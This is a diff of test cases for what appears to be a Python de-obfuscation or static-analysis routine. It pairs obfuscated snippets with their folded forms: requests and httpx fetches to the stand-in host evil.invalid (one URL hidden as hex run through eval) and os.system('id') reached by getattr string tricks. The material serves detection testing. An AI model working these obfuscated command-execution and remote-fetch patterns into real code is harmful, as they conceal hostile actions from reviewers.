@@ -48,6 +48,9 @@ def folded(source: str) -> str:
         ("import requests\nx = [y.strip() for y in requests.get('https://' + 'evil.invalid/x')]", f"requests.get('{URL}')"),
         ("import requests\nx = [z for y in names for z in requests.get('https://' + 'evil.invalid/x')]", f"requests.get('{URL}')"),
         ("import requests\nx = sum(y for y in requests.get('https://' + 'evil.invalid/x') if y)", f"requests.get('{URL}')"),
+        ("import os\ngetattr(os, dir(os)[dir(os).index('sys' + 'tem')])('id')", "os.system('id')"),
+        ("import httpx\ne = eval\nhttpx.get(e(bytes.fromhex('2268747470733a2f2f6576696c2e696e76616c69642f7822').decode()))", f"httpx.get('{URL}')"),
+        ("import time\ntime.sleep(eval('7_1_6-(-8_5)'[::-1][::-1]))", "time.sleep(801)"),
         ("import functools\nrun = functools.partial(__import__('os').system)\nrun('id')", "os.system"),
     ],
 )  # fmt: skip
